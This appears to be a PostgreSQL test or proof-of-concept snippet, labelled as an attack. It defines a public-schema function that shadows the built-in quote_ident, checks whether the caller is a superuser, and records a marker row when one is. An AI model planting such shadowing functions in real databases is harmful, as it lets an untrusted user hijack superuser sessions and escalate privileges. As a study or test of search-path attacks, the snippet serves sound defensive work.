-- attack (right): a function that runs with the rights of whoever reads the tables afterwards
create function public.quote_ident(name) returns text language plpgsql volatile as $$
begin
  if (select rolsuper from pg_roles where rolname = current_user) then
    insert into public.t values (4, 'run by ' || current_user);
  end if;
  return pg_catalog.quote_ident($1::text);
end $$;
grant execute on function public.quote_ident(name) to public;
insert into t values (3, 'Cy');
